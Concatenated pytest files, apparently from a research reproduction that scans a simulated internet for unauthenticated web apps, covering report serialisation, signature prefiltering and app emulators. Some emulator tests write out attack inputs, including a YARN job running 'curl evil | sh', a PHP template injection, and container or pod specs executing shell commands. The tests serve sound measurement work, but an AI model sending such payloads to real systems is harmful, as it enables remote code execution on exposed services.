    def test_fingerprints_survive(self, tiny_scan_study):
        original = tiny_scan_study.report
        rebuilt = report_from_dict(report_to_dict(original))
        for finding in original.findings.values():
            twin = rebuilt.findings[finding.ip.value]
            for slug, observation in finding.observations.items():
                if observation.fingerprint is None:
                    assert twin.observations[slug].fingerprint is None
                else:
                    assert (
                        twin.observations[slug].fingerprint.version
                        == observation.fingerprint.version
                    )

    def test_detections_survive(self, tiny_scan_study):
        original = tiny_scan_study.report
        rebuilt = report_from_dict(report_to_dict(original))
        assert len(rebuilt.detections) == len(
            [o for o in original.observations() if o.detection]
        )

    def test_vulnerable_ips_identical(self, tiny_scan_study):
        original = tiny_scan_study.report
        rebuilt = report_from_dict(report_to_dict(original))
        assert {ip.value for ip in rebuilt.vulnerable_ips()} == {
            ip.value for ip in original.vulnerable_ips()
        }

    def test_all_stats_fields_survive(self, tiny_scan_study):
        """Regression: retry and telemetry stats must round-trip losslessly."""
        original = tiny_scan_study.report
        # JSON-encode the dict to mimic the on-disk path exactly
        rebuilt = report_from_dict(json.loads(json.dumps(report_to_dict(original))))
        assert rebuilt.retry_stats.to_dict() == original.retry_stats.to_dict()
        assert rebuilt.telemetry.to_dict() == original.telemetry.to_dict()
        assert rebuilt.http_responses == original.http_responses
        assert rebuilt.https_responses == original.https_responses
        assert rebuilt.port_scan.addresses_scanned == original.port_scan.addresses_scanned

    def test_nonzero_telemetry_round_trips(self):
        """A report with live counters keeps them through serialisation."""
        from repro.core.pipeline import ScanReport
        from repro.core.retry import RetryStats
        from repro.obs.telemetry import TelemetrySummary

        report = ScanReport()
        report.retry_stats = RetryStats(attempts=9, retries=4, recovered=2)
        report.telemetry = TelemetrySummary(
            counters={"retry_retries_total": 4.0, "funnel_hosts_total{flow=in,stage=masscan}": 12.0},
            events=7,
            spans=3,
        )
        rebuilt = report_from_dict(json.loads(json.dumps(report_to_dict(report))))
        assert rebuilt.retry_stats.retries == 4
        assert rebuilt.telemetry.counter("retry_retries_total") == 4.0
        assert rebuilt.telemetry.funnel("masscan", "in") == 12.0
        assert (rebuilt.telemetry.events, rebuilt.telemetry.spans) == (7, 3)


class TestFileIO:
    def test_save_and_load(self, tiny_scan_study, tmp_path):
        path = tmp_path / "scan.json"
        save_report(tiny_scan_study.report, path)
        rebuilt = load_report(path)
        assert rebuilt.mavs_per_app() == tiny_scan_study.report.mavs_per_app()

    def test_file_is_plain_json(self, tiny_scan_study, tmp_path):
        path = tmp_path / "scan.json"
        save_report(tiny_scan_study.report, path)
        payload = json.loads(path.read_text())
        assert payload["format_version"] == 1
        assert isinstance(payload["findings"], list)

    def test_analysis_runs_on_loaded_report(self, tiny_scan_study, tmp_path):
        """The offline workflow: load yesterday's scan, rebuild Table 3."""
        from repro.analysis.tables import table3

        path = tmp_path / "scan.json"
        save_report(tiny_scan_study.report, path)
        rebuilt = load_report(path)
        table = table3(rebuilt, tiny_scan_study.census)
        assert table.as_dicts()[-1]["# MAVs"] == len(
            tiny_scan_study.report.vulnerable_ips()
        )


class TestVersioning:
    def test_unknown_format_rejected(self):
        with pytest.raises(ValueError):
            report_from_dict({"format_version": 999})

    def test_missing_version_rejected(self):
        with pytest.raises(ValueError):
            report_from_dict({})
