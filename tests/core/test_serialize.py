"""Tests for scan-report serialisation."""

import json

import pytest

from repro.core.serialize import (
    load_report,
    report_from_dict,
    report_to_dict,
    save_report,
)


class TestRoundTrip:
    def test_counts_survive(self, tiny_scan_study):
        original = tiny_scan_study.report
        rebuilt = report_from_dict(report_to_dict(original))
        assert rebuilt.hosts_per_app() == original.hosts_per_app()
        assert rebuilt.mavs_per_app() == original.mavs_per_app()
        assert rebuilt.total_awe_hosts() == original.total_awe_hosts()

    def test_port_scan_survives(self, tiny_scan_study):
        original = tiny_scan_study.report
        rebuilt = report_from_dict(report_to_dict(original))
        assert rebuilt.port_scan.open_ports == original.port_scan.open_ports
        assert rebuilt.port_scan.probes_sent == original.port_scan.probes_sent

    def test_fingerprints_survive(self, tiny_scan_study):
        original = tiny_scan_study.report
        rebuilt = report_from_dict(report_to_dict(original))
        for finding in original.findings.values():
            twin = rebuilt.findings[finding.ip.value]
            for slug, observation in finding.observations.items():
                if observation.fingerprint is None:
                    assert twin.observations[slug].fingerprint is None
                else:
                    assert (
                        twin.observations[slug].fingerprint.version
                        == observation.fingerprint.version
                    )

    def test_detections_survive(self, tiny_scan_study):
        original = tiny_scan_study.report
        rebuilt = report_from_dict(report_to_dict(original))
        assert len(rebuilt.detections) == len(
            [o for o in original.observations() if o.detection]
        )

    def test_vulnerable_ips_identical(self, tiny_scan_study):
        original = tiny_scan_study.report
        rebuilt = report_from_dict(report_to_dict(original))
        assert {ip.value for ip in rebuilt.vulnerable_ips()} == {
            ip.value for ip in original.vulnerable_ips()
        }


class TestFileIO:
    def test_save_and_load(self, tiny_scan_study, tmp_path):
        path = tmp_path / "scan.json"
        save_report(tiny_scan_study.report, path)
        rebuilt = load_report(path)
        assert rebuilt.mavs_per_app() == tiny_scan_study.report.mavs_per_app()

    def test_file_is_plain_json(self, tiny_scan_study, tmp_path):
        path = tmp_path / "scan.json"
        save_report(tiny_scan_study.report, path)
        payload = json.loads(path.read_text())
        assert payload["format_version"] == 1
        assert isinstance(payload["findings"], list)

    def test_analysis_runs_on_loaded_report(self, tiny_scan_study, tmp_path):
        """The offline workflow: load yesterday's scan, rebuild Table 3."""
        from repro.analysis.tables import table3

        path = tmp_path / "scan.json"
        save_report(tiny_scan_study.report, path)
        rebuilt = load_report(path)
        table = table3(rebuilt, tiny_scan_study.census)
        assert table.as_dicts()[-1]["# MAVs"] == len(
            tiny_scan_study.report.vulnerable_ips()
        )


class TestVersioning:
    def test_unknown_format_rejected(self):
        with pytest.raises(ValueError):
            report_from_dict({"format_version": 999})

    def test_missing_version_rejected(self):
        with pytest.raises(ValueError):
            report_from_dict({})
