"""Tests for the stage-II signature prefilter."""

import re

import pytest

from repro.apps.base import AppInstance
from repro.apps.catalog import create_instance, in_scope_apps
from repro.core.masscan import PortScanResult
from repro.core.prefilter import (
    SIGNATURES,
    Prefilter,
    match_signatures,
    signature_count,
)
from repro.net.host import Host, Service
from repro.net.http import HttpResponse, Scheme
from repro.net.ipv4 import IPv4Address
from repro.net.network import SimulatedInternet
from repro.net.transport import InMemoryTransport


class TestSignatureCorpus:
    def test_90_signatures_five_per_app(self):
        # The paper: "In total, we created 90 such signatures, an average
        # of 5 per application."
        assert signature_count() == 90
        assert all(len(p) == 5 for p in SIGNATURES.values())

    def test_one_entry_per_in_scope_app(self):
        assert set(SIGNATURES) == {spec.slug for spec in in_scope_apps()}

    def test_all_patterns_compile(self):
        for patterns in SIGNATURES.values():
            for pattern in patterns:
                re.compile(pattern)

    def test_generic_pages_match_nothing(self):
        from repro.net.population import _generic_page

        for flavour in ("nginx", "apache", "iis", "router", "api"):
            assert match_signatures(_generic_page(flavour)) == ()

    def test_empty_body_matches_nothing(self):
        assert match_signatures("") == ()


class TestPrefilterProbing:
    def _internet_with(self, slug, vulnerable, port, scheme=Scheme.HTTP):
        internet = SimulatedInternet()
        ip = IPv4Address.parse("203.0.113.50")
        host = Host(ip)
        app = create_instance(slug, vulnerable=vulnerable)
        host.add_service(
            Service(port, frozenset({scheme}), app=AppInstance(app, port))
        )
        internet.add_host(host)
        return internet, ip

    def test_identifies_vulnerable_wordpress(self):
        internet, ip = self._internet_with("wordpress", True, 80)
        prefilter = Prefilter(InMemoryTransport(internet))
        findings = prefilter.probe(ip, 80)
        assert findings and "wordpress" in findings[0].candidates

    def test_identifies_secure_wordpress_too(self):
        internet, ip = self._internet_with("wordpress", False, 80)
        prefilter = Prefilter(InMemoryTransport(internet))
        findings = prefilter.probe(ip, 80)
        assert findings and "wordpress" in findings[0].candidates

    def test_port_80_only_http(self):
        prefilter = Prefilter(InMemoryTransport(SimulatedInternet()))
        assert prefilter.schemes_for_port(80) == (Scheme.HTTP,)

    def test_port_443_only_https(self):
        prefilter = Prefilter(InMemoryTransport(SimulatedInternet()))
        assert prefilter.schemes_for_port(443) == (Scheme.HTTPS,)

    def test_other_ports_try_both(self):
        prefilter = Prefilter(InMemoryTransport(SimulatedInternet()))
        assert prefilter.schemes_for_port(8080) == (Scheme.HTTP, Scheme.HTTPS)

    def test_https_service_found_on_odd_port(self):
        internet, ip = self._internet_with("jupyterlab", True, 8888, Scheme.HTTPS)
        prefilter = Prefilter(InMemoryTransport(internet))
        findings = prefilter.probe(ip, 8888)
        schemes = {finding.scheme for finding in findings}
        assert Scheme.HTTPS in schemes

    def test_response_stats_recorded(self):
        internet, ip = self._internet_with("zeppelin", True, 8080)
        prefilter = Prefilter(InMemoryTransport(internet))
        prefilter.probe(ip, 8080)
        assert prefilter.stats.http_responses.get(8080, 0) == 1
        assert ip.value in prefilter.stats.responsive_hosts

    def test_unresponsive_port_yields_nothing(self):
        internet = SimulatedInternet()
        ip = IPv4Address.parse("203.0.113.60")
        host = Host(ip)
        host.add_service(Service(2375, non_http=True))
        internet.add_host(host)
        prefilter = Prefilter(InMemoryTransport(internet))
        assert prefilter.probe(ip, 2375) == []

    def test_run_covers_port_scan_result(self):
        internet, ip = self._internet_with("polynote", True, 8192)
        scan = PortScanResult()
        scan.record(ip, [8192])
        prefilter = Prefilter(InMemoryTransport(internet))
        findings = prefilter.run(scan)
        assert [f.candidates for f in findings] == [("polynote",)]

    def test_evaluate_rejects_unmatched_body(self):
        prefilter = Prefilter(InMemoryTransport(SimulatedInternet()))
        response = HttpResponse.ok("<html>nothing special</html>")
        assert prefilter.evaluate(
            IPv4Address(1), 80, Scheme.HTTP, response
        ) is None


class TestSignatureSpecificity:
    """Each app's own pages must not fire other apps' signatures wholesale."""

    @pytest.mark.parametrize("spec", in_scope_apps(), ids=lambda s: s.slug)
    def test_vulnerable_landing_hits_own_signature(self, spec):
        app = create_instance(spec.slug, vulnerable=True)
        from repro.net.http import HttpRequest

        response = app.handle(HttpRequest.get("/"))
        hops = 5
        while response.is_redirect and hops:
            response = app.handle(HttpRequest.get(response.location))
            hops -= 1
        matches = match_signatures(response.body)
        assert spec.slug in matches
        assert len(matches) <= 2  # near-exclusive attribution


class TestSinglePassMatcherEquivalence:
    """Regression gate for the single-pass matcher rewrite.

    The prescan + combined-scan matcher must report *exactly* the
    candidate set the reference one-regex-at-a-time matcher reports, for
    every canned page in the corpus and for adversarial bodies designed
    to stress the literal prescan.
    """

    def _corpus_bodies(self):
        from repro.lint.corpus import build_corpus

        return [
            body
            for pages in build_corpus().values()
            for body in pages.values()
        ]

    def _adversarial_bodies(self):
        from repro.core.prefilter import _MATCHER

        literals = list(_MATCHER._literals)
        return [
            "",                                   # trivially empty
            "no signatures anywhere " * 50,       # long all-miss body
            " ".join(literals),                   # every prescan literal at once
            literals[0] * 3,                      # repeated literal
            # literals present but patterns possibly unconfirmed
            " ".join(lit.upper() for lit in literals),
            # one giant body concatenating whole corpus pages
            "\n".join(self._corpus_bodies()[:20]),
        ]

    def test_identical_candidate_sets_on_corpus(self):
        from repro.core.prefilter import match_signatures_naive

        bodies = self._corpus_bodies() + self._adversarial_bodies()
        assert len(bodies) > 90  # the corpus really loaded
        for body in bodies:
            assert match_signatures(body) == match_signatures_naive(body)

    def test_matched_slugs_come_in_catalog_order(self):
        body = "\n".join(self._corpus_bodies()[:20])
        matched = match_signatures(body)
        assert len(matched) >= 2
        from repro.core.prefilter import _MATCHER

        order = {slug: i for i, slug in enumerate(_MATCHER.signatures)}
        assert list(matched) == sorted(matched, key=order.__getitem__)
