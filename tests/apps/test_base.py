"""Tests for the WebApplication framework itself."""

import pytest

from repro.apps.base import (
    AppCategory,
    CommandExecution,
    WebApplication,
    html_page,
    parse_version,
    route,
    versioned_asset,
)
from repro.net.http import HttpRequest, HttpResponse
from repro.util.errors import ConfigError


class _Demo(WebApplication):
    name = "Demo"
    slug = "demo"
    category = AppCategory.CP

    def is_vulnerable(self) -> bool:
        return True

    def secure(self) -> None:
        pass

    @route("GET", "/exact")
    def exact(self, request):
        return HttpResponse.ok("exact")

    @route("GET", "/api/*")
    def api_prefix(self, request):
        return HttpResponse.ok(f"prefix:{request.path_only}")

    @route("GET", "/api/deep/*")
    def api_deep(self, request):
        return HttpResponse.ok("deep")

    @route("POST", "/exact")
    def exact_post(self, request):
        return HttpResponse.ok("posted")


class _Derived(_Demo):
    @route("GET", "/exact")
    def exact(self, request):  # override the parent's handler
        return HttpResponse.ok("derived")


class TestRouting:
    def test_exact_match(self):
        assert _Demo("1.0").handle(HttpRequest.get("/exact")).body == "exact"

    def test_method_dispatch(self):
        app = _Demo("1.0")
        assert app.handle(HttpRequest.post("/exact")).body == "posted"

    def test_query_string_ignored_for_matching(self):
        assert _Demo("1.0").handle(HttpRequest.get("/exact?x=1")).body == "exact"

    def test_prefix_match(self):
        assert _Demo("1.0").handle(HttpRequest.get("/api/foo")).body == "prefix:/api/foo"

    def test_longest_prefix_wins(self):
        assert _Demo("1.0").handle(HttpRequest.get("/api/deep/x")).body == "deep"

    def test_unrouted_is_404(self):
        assert _Demo("1.0").handle(HttpRequest.get("/nope")).status == 404

    def test_subclass_overrides_route(self):
        assert _Derived("1.0").handle(HttpRequest.get("/exact")).body == "derived"

    def test_wrong_method_falls_through(self):
        response = _Demo("1.0").handle(HttpRequest("PUT", "/exact"))
        assert response.status == 404


class TestExecutions:
    def test_record_and_drain(self):
        app = _Demo("1.0")
        execution = app.record_execution("id", via="/x", mechanism="test")
        assert isinstance(execution, CommandExecution)
        assert app.drain_executions() == [execution]
        assert app.drain_executions() == []

    def test_fingerprint_depends_on_command_only(self):
        a = CommandExecution("cmd", "/a", "m1")
        b = CommandExecution("cmd", "/b", "m2")
        assert a.payload_fingerprint == b.payload_fingerprint


class TestVersionHelpers:
    @pytest.mark.parametrize(
        "text,expected",
        [("2.289.1", (2, 289, 1)), ("4.6.3-rc1", (4, 6, 3)),
         ("17.03", (17, 3)), ("1", (1,))],
    )
    def test_parse_version(self, text, expected):
        assert parse_version(text) == expected

    def test_parse_version_rejects_garbage(self):
        with pytest.raises(ConfigError):
            parse_version("not-a-version")

    def test_version_before(self):
        app = _Demo("1.9")
        assert app.version_before("2.0")
        assert not _Demo("2.0").version_before("2.0")

    def test_numeric_not_lexicographic(self):
        # 1.10 must be newer than 1.9.
        assert not _Demo("1.10").version_before("1.9")


class TestAssets:
    def test_versioned_asset_deterministic(self):
        assert versioned_asset("x", "a.js", "1.0") == versioned_asset("x", "a.js", "1.0")

    def test_versioned_asset_varies(self):
        assert versioned_asset("x", "a.js", "1.0") != versioned_asset("x", "a.js", "1.1")
        assert versioned_asset("x", "a.js", "1.0") != versioned_asset("y", "a.js", "1.0")

    def test_html_page_links_assets(self):
        page = html_page("T", "<p>b</p>", assets=["/a.js", "/b.css"])
        assert '<script src="/a.js">' in page
        assert '<link rel="stylesheet" href="/b.css">' in page
        assert "<title>T</title>" in page
