"""Behavioural tests for the 25 application emulators.

Each in-scope emulator is checked on three axes:

1. the Table-10 probe endpoint serves the detection markers when (and
   only when) the instance is vulnerable;
2. the exploit path records a command execution when vulnerable and is
   denied when secured;
3. the landing-page surface carries the app's prefilter signature in both
   states.
"""

import pytest

from repro.apps.catalog import create_instance, in_scope_apps
from repro.core.prefilter import match_signatures
from repro.net.http import HttpRequest


def _get(app, path):
    return app.handle(HttpRequest.get(path))


def _follow(app, path, hops=5):
    response = _get(app, path)
    while response.is_redirect and hops:
        response = _get(app, response.location)
        hops -= 1
    return response


class TestJenkins:
    def test_vulnerable_serves_create_item_form(self):
        app = create_instance("jenkins", vulnerable=True)
        response = _get(app, "/view/all/newJob")
        assert response.status == 200
        assert 'id="createItem"' in response.body

    def test_secure_redirects_to_login(self):
        app = create_instance("jenkins")
        assert _get(app, "/view/all/newJob").is_redirect

    def test_x_jenkins_header_discloses_version(self):
        app = create_instance("jenkins")
        assert _follow(app, "/").headers.get("x-jenkins") == app.version

    def test_old_version_insecure_by_default(self):
        from repro.apps.ci import Jenkins

        assert Jenkins("1.9").is_vulnerable()
        assert not Jenkins("2.289").is_vulnerable()

    def test_build_records_execution(self):
        app = create_instance("jenkins", vulnerable=True)
        app.handle(HttpRequest.post("/job/x/build", "command=id"))
        executions = app.drain_executions()
        assert executions and executions[0].command == "id"
        assert executions[0].mechanism == "build-step"

    def test_build_denied_when_secure(self):
        app = create_instance("jenkins")
        response = app.handle(HttpRequest.post("/job/x/build", "command=id"))
        assert response.status == 401
        assert not app.drain_executions()


class TestGoCD:
    def test_insecure_by_default(self):
        app = create_instance("gocd", vulnerable=True)
        response = _follow(app, "/")
        assert "Create a pipeline - Go" in response.body

    @pytest.mark.parametrize("version,marker", [
        ("14.2", "Pipelines - Go"),
        ("18.10", "Dashboard - Go"),
        ("21.2", "Create a pipeline - Go"),
    ])
    def test_dashboard_markup_varies_by_era(self, version, marker):
        app = create_instance("gocd", version=version, vulnerable=True)
        assert marker in _get(app, "/go/home").body

    @pytest.mark.parametrize("version", ["14.2", "18.10", "21.2"])
    def test_all_eras_detected_by_plugin(self, version):
        from repro.core.tsunami.plugins import plugin_for
        from tests.core.test_plugins import make_context

        app = create_instance("gocd", version=version, vulnerable=True)
        assert plugin_for("gocd").detect(make_context(app, port=8153)) is not None

    @pytest.mark.parametrize("version", ["14.2", "18.10", "21.2"])
    def test_all_eras_match_prefilter(self, version):
        app = create_instance("gocd", version=version, vulnerable=True)
        assert "gocd" in match_signatures(_follow(app, "/").body)

    def test_secured_redirects_to_login(self):
        app = create_instance("gocd")
        app.secure()
        assert _get(app, "/go/home").is_redirect

    def test_pipeline_creation_records_execution(self):
        app = create_instance("gocd", vulnerable=True)
        app.handle(HttpRequest.post("/go/api/admin/pipelines", "command=whoami"))
        assert app.drain_executions()[0].mechanism == "pipeline-task"


class TestWordPress:
    def test_uninstalled_serves_setup_form(self):
        app = create_instance("wordpress", vulnerable=True)
        body = _get(app, "/wp-admin/install.php").body
        assert 'id="setup"' in body and 'id="pass1"' in body

    def test_installed_reports_already_installed(self):
        app = create_instance("wordpress")
        assert "already installed" in _get(app, "/wp-admin/install.php").body

    def test_install_hijack_then_template_edit(self):
        app = create_instance("wordpress", vulnerable=True)
        app.handle(HttpRequest.post("/wp-admin/install.php", "admin_password=pwned"))
        assert not app.is_vulnerable()  # trust on first use consumed
        # The hijacker authenticates with the password they just chose;
        # a wrong credential is bounced to the login page.
        denied = app.handle(
            HttpRequest.post("/wp-admin/theme-editor.php",
                             "auth=wrong&newcontent=x")
        )
        assert denied.is_redirect
        app.handle(HttpRequest.post("/wp-admin/theme-editor.php",
                                    "auth=pwned&newcontent=<?php evil(); ?>"))
        assert app.drain_executions()[0].mechanism == "php-template"

    def test_second_install_rejected(self):
        app = create_instance("wordpress", vulnerable=True)
        app.handle(HttpRequest.post("/wp-admin/install.php", "admin_password=a"))
        response = app.handle(
            HttpRequest.post("/wp-admin/install.php", "admin_password=b")
        )
        assert response.status == 403

    def test_version_disclosed_in_generator_tag(self):
        app = create_instance("wordpress")
        assert f"WordPress {app.version}" in _get(app, "/").body


class TestGrav:
    def test_vulnerable_markers(self):
        app = create_instance("grav", vulnerable=True)
        assert "The Admin plugin has been installed" in _get(app, "/").body
        assert "No user accounts found" in _get(app, "/admin").body

    def test_account_creation_secures(self):
        app = create_instance("grav", vulnerable=True)
        app.handle(HttpRequest.post("/admin", "password=x"))
        assert not app.is_vulnerable()


class TestJoomla:
    def test_installer_only_pre_install(self):
        vulnerable = create_instance("joomla", vulnerable=True)
        assert "Joomla! Web Installer" in _get(vulnerable, "/installation/index.php").body
        secure = create_instance("joomla")
        assert _get(secure, "/installation/index.php").status == 404

    def test_remote_db_countermeasure_since_3_7_4(self):
        app = create_instance("joomla", version="3.9", vulnerable=True)
        response = app.handle(
            HttpRequest.post("/installation/index.php",
                             "db_host=evil.example&admin_password=x")
        )
        assert response.status == 403
        assert app.is_vulnerable()  # install did not complete

    def test_remote_db_allowed_before_3_7_4(self):
        app = create_instance("joomla", version="3.6", vulnerable=True)
        app.handle(HttpRequest.post("/installation/index.php",
                                    "db_host=evil.example&admin_password=x"))
        assert not app.is_vulnerable()

    def test_local_db_install_always_possible(self):
        app = create_instance("joomla", version="3.9", vulnerable=True)
        app.handle(HttpRequest.post("/installation/index.php", "admin_password=x"))
        assert not app.is_vulnerable()


class TestDrupal:
    def test_installer_marker_survives_whitespace_squeeze(self):
        app = create_instance("drupal", vulnerable=True)
        body = _get(app, "/core/install.php").body
        assert '<liclass="is-active">Setupdatabase' in "".join(body.split())

    def test_markup_spacing_varies_by_version(self):
        old = create_instance("drupal", version="8.6", vulnerable=True)
        new = create_instance("drupal", version="9.1", vulnerable=True)
        assert _get(old, "/core/install.php").body != _get(new, "/core/install.php").body


class TestKubernetes:
    def test_secure_api_returns_401(self):
        app = create_instance("kubernetes")
        assert _get(app, "/api/v1/pods").status == 401

    def test_anonymous_api_lists_running_pods(self):
        import json

        app = create_instance("kubernetes", vulnerable=True)
        payload = json.loads(_get(app, "/api/v1/pods").body)
        assert payload["items"]
        assert payload["items"][0]["status"]["phase"] == "Running"

    def test_version_endpoint_open_even_when_secure(self):
        app = create_instance("kubernetes")
        assert f"v{app.version}" in _get(app, "/version").body

    def test_pod_creation_records_execution(self):
        import json

        app = create_instance("kubernetes", vulnerable=True)
        spec = {"spec": {"containers": [{"command": ["sh", "-c", "id"]}]}}
        app.handle(HttpRequest.post("/api/v1/namespaces/default/pods",
                                    json.dumps(spec)))
        assert app.drain_executions()[0].mechanism == "pod"

    def test_invalid_pod_body_rejected(self):
        app = create_instance("kubernetes", vulnerable=True)
        response = app.handle(
            HttpRequest.post("/api/v1/namespaces/default/pods", "{not json")
        )
        assert response.status == 400
        assert not app.drain_executions()


class TestDocker:
    def test_exposed_api_is_the_vulnerability(self):
        app = create_instance("docker", vulnerable=True)
        assert '{"message":"page not found"}' in _get(app, "/").body
        assert "MinAPIVersion" in _get(app, "/version").body

    def test_tls_protected_api_forbids(self):
        app = create_instance("docker")
        assert _get(app, "/version").status == 403

    def test_container_lifecycle_records_execution(self):
        import json

        app = create_instance("docker", vulnerable=True)
        app.handle(HttpRequest.post("/containers/create",
                                    json.dumps({"Cmd": ["sh", "-c", "id"]})))
        app.handle(HttpRequest.post("/containers/c0ffee/start"))
        execution = app.drain_executions()[0]
        assert execution.mechanism == "container"
        assert "id" in execution.command


class TestConsul:
    def test_agent_self_exposed_by_default(self):
        app = create_instance("consul")
        assert "DebugConfig" in _get(app, "/v1/agent/self").body

    def test_script_checks_flag_controls_vulnerability(self):
        import json

        secure = create_instance("consul")
        vulnerable = create_instance("consul", vulnerable=True)
        secure_cfg = json.loads(_get(secure, "/v1/agent/self").body)["DebugConfig"]
        vuln_cfg = json.loads(_get(vulnerable, "/v1/agent/self").body)["DebugConfig"]
        assert not secure_cfg["EnableLocalScriptChecks"]
        assert vuln_cfg["EnableLocalScriptChecks"]

    def test_check_registration_executes_script_only_when_enabled(self):
        import json

        body = json.dumps({"Name": "h", "Args": ["sh", "-c", "id"]})
        vulnerable = create_instance("consul", vulnerable=True)
        vulnerable.handle(HttpRequest("PUT", "/v1/agent/check/register", body=body))
        assert vulnerable.drain_executions()

        secure = create_instance("consul")
        response = secure.handle(
            HttpRequest("PUT", "/v1/agent/check/register", body=body)
        )
        assert response.status == 500
        assert not secure.drain_executions()


class TestHadoop:
    def test_dr_who_marker_when_vulnerable(self):
        app = create_instance("hadoop", vulnerable=True)
        assert "dr.who" in _get(app, "/cluster/cluster").body.lower()

    def test_kerberos_cluster_requires_auth_but_identifies_itself(self):
        app = create_instance("hadoop")
        app.secure()
        response = _get(app, "/cluster/cluster")
        assert response.status == 401
        assert "Hadoop" in response.body  # prefilter can still attribute it

    def test_yarn_submission_records_execution(self):
        import json

        app = create_instance("hadoop", vulnerable=True)
        spec = {"am-container-spec": {"commands": {"command": "curl evil | sh"}}}
        app.handle(HttpRequest.post("/ws/v1/cluster/apps", json.dumps(spec)))
        assert app.drain_executions()[0].mechanism == "yarn-app"


class TestNomad:
    def test_acl_disabled_lists_jobs(self):
        app = create_instance("nomad", vulnerable=True)
        assert _get(app, "/v1/jobs").status == 200

    def test_acl_enabled_denies(self):
        app = create_instance("nomad")
        assert _get(app, "/v1/jobs").status == 403

    def test_raw_exec_job_records_execution(self):
        import json

        app = create_instance("nomad", vulnerable=True)
        spec = {"Job": {"TaskGroups": [{"Tasks": [{
            "Driver": "raw_exec",
            "Config": {"command": "sh", "args": ["-c", "id"]},
        }]}]}}
        app.handle(HttpRequest("PUT", "/v1/jobs", body=json.dumps(spec)))
        assert app.drain_executions()[0].mechanism == "nomad-job"


class TestJupyter:
    @pytest.mark.parametrize("slug,marker", [
        ("jupyterlab", "JupyterLab"),
        ("jupyter-notebook", "Jupyter Notebook"),
    ])
    def test_terminals_api_gated_by_auth(self, slug, marker):
        vulnerable = create_instance(slug, vulnerable=True)
        response = _get(vulnerable, "/api/terminals")
        assert response.status == 200 and marker in response.body
        secure = create_instance(slug)
        assert _get(secure, "/api/terminals").status == 403

    def test_notebook_pre_4_3_insecure_by_default(self):
        from repro.apps.notebooks import JupyterNotebook

        assert JupyterNotebook("4.2").is_vulnerable()
        assert not JupyterNotebook("4.3").is_vulnerable()
        assert not JupyterNotebook("6.2").is_vulnerable()

    def test_lab_always_secure_by_default(self):
        from repro.apps.notebooks import JupyterLab

        assert not JupyterLab("0.31").is_vulnerable()

    def test_terminal_input_records_execution(self):
        app = create_instance("jupyter-notebook", vulnerable=True)
        app.handle(HttpRequest.post("/terminals/websocket/1", "stdin=uname"))
        assert app.drain_executions()[0].mechanism == "terminal"

    def test_api_version_disclosed_even_when_secure(self):
        app = create_instance("jupyter-notebook")
        assert app.version in _get(app, "/api").body


class TestZeppelin:
    def test_notebook_api_gated_by_shiro(self):
        vulnerable = create_instance("zeppelin", vulnerable=True)
        assert '{"status":"OK",' in _get(vulnerable, "/api/notebook").body
        secure = create_instance("zeppelin")
        assert _get(secure, "/api/notebook").status == 403

    def test_sh_paragraph_records_execution(self):
        app = create_instance("zeppelin", vulnerable=True)
        app.handle(HttpRequest.post("/api/notebook/job/2A94M5J1Z",
                                    "paragraph=%25sh+id"))
        executions = app.drain_executions()
        assert executions and executions[0].mechanism == "paragraph"


class TestPolynote:
    def test_always_vulnerable(self):
        assert create_instance("polynote").is_vulnerable()

    def test_cannot_be_secured(self):
        with pytest.raises(NotImplementedError):
            create_instance("polynote").secure()

    def test_ws_records_execution(self):
        app = create_instance("polynote")
        app.handle(HttpRequest.post("/ws", "cell=print(1)"))
        assert app.drain_executions()[0].mechanism == "cell"


class TestAjenti:
    def test_autologin_serves_dashboard(self):
        app = create_instance("ajenti", vulnerable=True)
        body = _get(app, "/view/").body
        assert "ajentiPlatformUnmapped" in body

    def test_default_requires_login(self):
        app = create_instance("ajenti")
        assert "ajentiPlatformUnmapped" not in _get(app, "/view/").body

    def test_terminal_records_execution(self):
        app = create_instance("ajenti", vulnerable=True)
        app.handle(HttpRequest.post("/api/terminal", "input=ls"))
        assert app.drain_executions()[0].mechanism == "terminal"


class TestPhpMyAdmin:
    def test_vulnerable_serves_server_page(self):
        app = create_instance("phpmyadmin", vulnerable=True)
        body = _get(app, "/").body
        assert "Server connection collation" in body

    def test_needs_both_conditions(self):
        from repro.apps.panels import PhpMyAdmin

        assert not PhpMyAdmin("5.1", {"allow_no_password": True}).is_vulnerable()
        assert not PhpMyAdmin("5.1", {"root_password_empty": True}).is_vulnerable()

    def test_sql_records_execution(self):
        app = create_instance("phpmyadmin", vulnerable=True)
        app.handle(HttpRequest.post("/import.php", "sql_query=SELECT+1"))
        assert app.drain_executions()[0].mechanism == "sql"

    def test_alias_path_served(self):
        app = create_instance("phpmyadmin")
        assert _get(app, "/phpmyadmin").status == 200


class TestAdminer:
    def test_empty_password_login_pre_4_6_3(self):
        app = create_instance("adminer", vulnerable=True)
        body = _get(app, "/adminer.php?username=root").body
        assert "Logged as" in body and "through PHP extension" in body

    def test_4_6_3_rejects_empty_password(self):
        from repro.apps.panels import Adminer

        app = Adminer("4.8", {"root_password_empty": True})
        assert not app.is_vulnerable()
        assert "Logged as" not in _get(app, "/adminer.php?username=root").body

    def test_version_shown_on_login_page(self):
        app = create_instance("adminer")
        assert app.version in _get(app, "/").body


class TestOutOfScopeApps:
    @pytest.mark.parametrize(
        "slug", ["gitlab", "drone", "travis", "ghost", "spark-notebook",
                 "vestacp", "omnidb"]
    )
    def test_never_vulnerable_and_securing_is_noop(self, slug):
        app = create_instance(slug)
        assert not app.is_vulnerable()
        app.secure()
        assert not app.is_vulnerable()

    @pytest.mark.parametrize(
        "slug", ["gitlab", "ghost", "vestacp", "omnidb"]
    )
    def test_landing_pages_match_no_prefilter_signature(self, slug):
        app = create_instance(slug)
        assert match_signatures(_follow(app, "/").body) == ()


class TestEmulatorSurface:
    def test_landing_pages_match_own_signature_in_both_states(self):
        for spec in in_scope_apps():
            for vulnerable in (True, False):
                if not vulnerable and spec.slug == "polynote":
                    continue
                app = create_instance(spec.slug, vulnerable=vulnerable)
                body = _follow(app, "/").body
                assert spec.slug in match_signatures(body), (spec.slug, vulnerable)

    def test_static_files_deterministic_per_version(self):
        for spec in in_scope_apps():
            a = create_instance(spec.slug)
            b = create_instance(spec.slug)
            assert a.static_files() == b.static_files()

    def test_static_files_differ_across_versions(self):
        from repro.apps.versions import RELEASE_DB

        for spec in in_scope_apps():
            releases = RELEASE_DB.releases(spec.slug)
            old = spec.emulator(releases[0].version, {})
            new = spec.emulator(releases[-1].version, {})
            if old.static_files():
                assert old.static_files() != new.static_files(), spec.slug

    def test_static_files_served_over_http(self):
        app = create_instance("wordpress")
        for path, content in app.static_files().items():
            response = _get(app, path)
            assert response.status == 200
            assert response.body == content

